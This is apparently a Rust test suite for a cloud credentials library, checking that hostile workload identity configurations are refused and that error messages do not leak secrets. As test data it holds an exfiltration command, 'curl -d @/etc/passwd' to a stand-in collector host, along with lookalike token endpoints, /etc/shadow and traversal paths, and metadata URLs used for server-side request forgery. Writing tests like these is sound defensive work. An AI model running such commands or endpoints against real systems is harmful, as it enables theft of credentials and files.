//! Hostile configurations are refused, naming the field and the rule: one test per rule.

use serde_json::{Value, json};
use wif::{Credentials, TrustPolicy};

use super::*;
use crate::support::{assert_policy_error, file_config, with};

#[test]
fn token_url_must_be_google_sts() {
    let strict = TrustPolicy::strict();
    for url in [
        "https://collector.example/v1/token",
        "https://sts.googleapis.com.collector.example/v1/token",
        "https://collectorsts.googleapis.com/v1/token",
        "https://sts.googleapis.com./v1/token",
        // Google hosts, but not STS: a Cloud Storage upload would store the subject token
        // in the attacker's bucket.
        "https://storage.googleapis.com/upload/storage/v1/b/attacker/o?uploadType=media&name=t",
        "https://iamcredentials.googleapis.com/v1/token",
        "https://sts.us-east1.googleapis.com/v1/token",
        "https://142.250.80.10/v1/token",
        "https://[2607:f8b0::200e]/v1/token",
        "https://sts.s3nsapis.fr/v1/token",
    ] {
        let v = with(file_config(), &[("token_url", json!(url))]);
        assert_refused(&strict, &v, "token_url", "google-endpoint");
    }
}

#[test]
fn token_url_must_be_https_without_port_or_user_info() {
    let strict = TrustPolicy::strict();
    for (url, rule, words) in [
        (
            "http://sts.googleapis.com/v1/token",
            "google-endpoint",
            "is not https",
        ),
        (
            "https://sts.googleapis.com:8443/v1/token",
            "google-endpoint",
            "names a port",
        ),
        (
            "https://user:pw@sts.googleapis.com/v1/token",
            "canonical-url",
            "user info",
        ),
    ] {
        let v = with(file_config(), &[("token_url", json!(url))]);
        let err = assert_refused(&strict, &v, "token_url", rule);
        assert!(err.to_string().contains(words), "{url}: {err}");
    }
}

#[test]
fn refusals_never_echo_query_strings_or_user_info() {
    for (url, rule) in [
        (
            "https://alice:hunter2@collector.example/v1/token?key=s3cr3t-query",
            "canonical-url",
        ),
        (
            "https://collector.example/v1/token?key=s3cr3t-query",
            "google-endpoint",
        ),
        (
            "https://COLLECTOR.example:443/v1/token?key=s3cr3t-query#alice",
            "canonical-url",
        ),
    ] {
        let v = with(file_config(), &[("token_url", json!(url))]);
        let err = assert_refused(&TrustPolicy::strict(), &v, "token_url", rule);
        let shown = format!("{err} {err:?}");
        assert!(shown.contains("collector.example"), "{shown}");
        for secret in ["hunter2", "alice", "s3cr3t-query"] {
            assert!(!shown.contains(secret), "{secret} leaked: {shown}");
        }
    }
}

#[test]
fn token_info_url_must_be_google_sts() {
    let v = with(
        file_config(),
        &[(
            "token_info_url",
            json!("https://collector.example/v1/introspect"),
        )],
    );
    assert_refused(
        &TrustPolicy::strict(),
        &v,
        "token_info_url",
        "google-endpoint",
    );
}

#[test]
fn impersonation_url_must_be_iam_credentials() {
    for url in [
        "https://collector.example/v1/projects/-/serviceAccounts/a@p.iam.gserviceaccount.com:generateAccessToken",
        "https://sts.googleapis.com/v1/projects/-/serviceAccounts/a@p.iam.gserviceaccount.com:generateAccessToken",
        "http://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/a@p.iam.gserviceaccount.com:generateAccessToken",
    ] {
        let v = with(
            file_config(),
            &[("service_account_impersonation_url", json!(url))],
        );
        assert_refused(
            &TrustPolicy::strict(),
            &v,
            "service_account_impersonation_url",
            "google-endpoint",
        );
    }
}

#[test]
fn aws_metadata_urls_must_be_imds() {
    let strict = TrustPolicy::strict();
    let fields = ["region_url", "url", "imdsv2_session_token_url"];
    for bad in [
        "http://169.254.169.253/latest/meta-data/x",
        "http://10.0.0.1/latest/meta-data/x",
        "http://metadata.collector.example/latest/meta-data/x",
        "http://[fd00:ec2::253]/latest/meta-data/x",
        "https://169.254.169.254/latest/meta-data/x",
        "http://169.254.169.254:8080/latest/meta-data/x",
    ] {
        for field in fields {
            let key = format!("credential_source.{field}");
            let v = with(aws_imdsv2(), &[(key.as_str(), json!(bad))]);
            assert_refused(&strict, &v, &key, "aws-metadata");
        }
    }
}

#[test]
fn aws_verification_url_must_be_aws_sts() {
    for bad in [
        "https://collector.example/?Action=GetCallerIdentity&Version=2011-06-15",
        "https://sts.{region}.amazonaws.com.collector.example/?Action=GetCallerIdentity",
        "https://{region}.collector.example/?Action=GetCallerIdentity",
        "https://sts.amazonaws.com:8443/?Action=GetCallerIdentity",
    ] {
        let v = with(
            aws_imdsv2(),
            &[(
                "credential_source.regional_cred_verification_url",
                json!(bad),
            )],
        );
        assert_refused(
            &TrustPolicy::strict(),
            &v,
            "credential_source.regional_cred_verification_url",
            "aws-sts",
        );
    }
}

#[test]
fn executables_are_refused() {
    let v = with(
        file_config(),
        &[(
            "credential_source",
            json!({"executable": {"command": "/usr/bin/curl -d @/etc/passwd https://collector.example", "timeout_millis": 5000}}),
        )],
    );
    assert_refused(
        &TrustPolicy::strict(),
        &v,
        "credential_source.executable",
        "no-executable",
    );
    // Also through the loader, whatever the executable source would do.
    let err = Credentials::from_json_untrusted(&v.to_string()).unwrap_err();
    assert_policy_error(&err, "credential_source.executable", "no-executable");
}

#[test]
fn files_outside_the_allowed_directories_are_refused() {
    let strict = TrustPolicy::strict();
    for (path, words) in [
        ("/etc/shadow", "outside the allowed directories"),
        (
            "/home/me/.aws/credentials",
            "outside the allowed directories",
        ),
        ("/var/run/secrets/../../../etc/shadow", "contains `..`"),
        ("token.txt", "not an absolute path"),
        ("/var/run/secretsX/token", "outside the allowed directories"),
    ] {
        let v = with(file_config(), &[("credential_source.file", json!(path))]);
        let err = assert_refused(&strict, &v, "credential_source.file", "file-directory");
        assert!(err.to_string().contains(words), "{path}: {err}");
    }
    // An explicit allow-list replaces the default one.
    let v = with(
        file_config(),
        &[("credential_source.file", json!("/opt/app/token"))],
    );
    assert_accepted(&strict.clone().allow_file_directory("/opt/app"), &v);
    let none = TrustPolicy::strict().file_directories(Vec::<String>::new());
    let err = assert_refused(
        &none,
        &file_config(),
        "credential_source.file",
        "file-directory",
    );
    assert!(err.to_string().contains("(none)"), "{err}");
}

#[test]
fn certificate_paths_follow_the_file_rule() {
    let cert = |extra: Value| {
        json!({
            "audience": WORKLOAD,
            "subject_token_type": "urn:ietf:params:oauth:token-type:mtls",
            "token_url": "https://sts.mtls.googleapis.com/v1/token",
            "credential_source": { "certificate": extra }
        })
    };
    let strict = TrustPolicy::strict();
    assert_refused(
        &strict,
        &cert(
            json!({"certificate_config_location": "/home/me/.config/gcloud/certificate_config.json"}),
        ),
        "credential_source.certificate.certificate_config_location",
        "file-directory",
    );
    assert_refused(
        &strict.clone().allow_default_certificate_config(),
        &cert(
            json!({"use_default_certificate_config": true, "trust_chain_path": "/etc/ssl/private/chain.pem"}),
        ),
        "credential_source.certificate.trust_chain_path",
        "file-directory",
    );
    assert_accepted(
        &strict.allow_file_directory("/etc/wif"),
        &cert(
            json!({"certificate_config_location": "/etc/wif/certificate_config.json", "trust_chain_path": "/etc/wif/chain.pem"}),
        ),
    );
}

#[test]
fn url_sources_reach_only_allowed_hosts() {
    let strict = TrustPolicy::strict();
    for url in [
        "https://collector.example/token",
        "http://10.1.2.3/token",
        "http://169.254.170.2/v2/credentials",
        "http://metadata.google.internal/computeMetadata/v1/x",
    ] {
        let v = with(azure_url_config(), &[("credential_source.url", json!(url))]);
        assert_refused(&strict, &v, "credential_source.url", "source-url");
    }
    let idp = with(
        azure_url_config(),
        &[(
            "credential_source.url",
            json!("https://idp.corp.example/oidc/token"),
        )],
    );
    let allowed = TrustPolicy::strict().allow_source_url_host("IdP.corp.example");
    assert_accepted(&allowed, &idp);
    // An allowed host is reached over https only: its headers may be credentials.
    let plain = with(
        azure_url_config(),
        &[(
            "credential_source.url",
            json!("http://idp.corp.example/oidc/token"),
        )],
    );
    let err = assert_refused(&allowed, &plain, "credential_source.url", "source-url");
    assert!(err.to_string().contains("not https"), "{err}");
}

#[test]
fn loopback_needs_an_explicit_opt_in() {
    let strict = TrustPolicy::strict();
    let loopback = TrustPolicy::strict().allow_loopback();
    let cases = [
        ("token_url", "http://127.0.0.1:8080/v1/token"),
        ("token_url", "http://localhost:8080/v1/token"),
        ("token_url", "https://[::1]/v1/token"),
        ("token_url", "http://127.1.2.3/v1/token"),
        ("token_info_url", "http://127.0.0.1:8080/v1/introspect"),
        (
            "service_account_impersonation_url",
            "http://127.0.0.1:8080/v1/projects/-/serviceAccounts/a@p.iam.gserviceaccount.com:generateAccessToken",
        ),
        ("credential_source.url", "http://127.0.0.1:5000/token"),
    ];
    for (field, url) in cases {
        let base = if field == "credential_source.url" {
            azure_url_config()
        } else {
            file_config()
        };
        let v = with(base, &[(field, json!(url))]);
        assert_refused(&strict, &v, field, "loopback");
        assert_accepted(&loopback, &v);
    }
    for field in ["region_url", "url", "imdsv2_session_token_url"] {
        let key = format!("credential_source.{field}");
        let v = with(
            aws_imdsv2(),
            &[(key.as_str(), json!("http://127.0.0.1:1338/latest/x"))],
        );
        assert_refused(&strict, &v, &key, "loopback");
        assert_accepted(&loopback, &v);
    }
    assert!(loopback.allows_loopback() && !strict.allows_loopback());
}

#[test]
fn universe_must_be_trusted() {
    let other = with(
        file_config(),
        &[
            ("universe_domain", json!("s3nsapis.fr")),
            ("token_url", Value::Null),
        ],
    );
    assert_refused(
        &TrustPolicy::strict(),
        &other,
        "universe_domain",
        "trusted-universe",
    );
    let trusting = TrustPolicy::strict().allow_universe_domain("S3NSAPIS.fr");
    assert_accepted(&trusting, &other);
    // The endpoints must be in the configuration's own universe, even if both are trusted.
    let mixed = with(
        file_config(),
        &[
            ("universe_domain", json!("s3nsapis.fr")),
            ("token_url", json!("https://sts.googleapis.com/v1/token")),
        ],
    );
    assert_refused(&trusting, &mixed, "token_url", "google-endpoint");
    // An attacker cannot name their own domain as the universe.
    let attacker = with(
        file_config(),
        &[
            ("universe_domain", json!("collector.example")),
            ("token_url", json!("https://sts.collector.example/v1/token")),
        ],
    );
    assert_refused(
        &TrustPolicy::strict(),
        &attacker,
        "universe_domain",
        "trusted-universe",
    );
    let other_universe = with(
        other,
        &[(
            "service_account_impersonation_url",
            json!(
                "https://iamcredentials.s3nsapis.fr/v1/projects/-/serviceAccounts/a@p.iam.gserviceaccount.com:generateAccessToken"
            ),
        )],
    );
    assert_accepted(&trusting, &other_universe);
}

#[test]
fn policy_values() {
    assert_eq!(TrustPolicy::default(), TrustPolicy::strict());
    let p = TrustPolicy::strict()
        .allow_universe_domain("googleapis.com")
        .allow_universe_domain("s3nsapis.fr")
        .allow_universe_domain("S3NSAPIS.FR");
    assert_eq!(
        p.universe_domains().collect::<Vec<_>>(),
        ["googleapis.com", "s3nsapis.fr"]
    );
    let shown = format!("{p:?}");
    assert!(shown.contains("/var/run/secrets"), "{shown}");
}
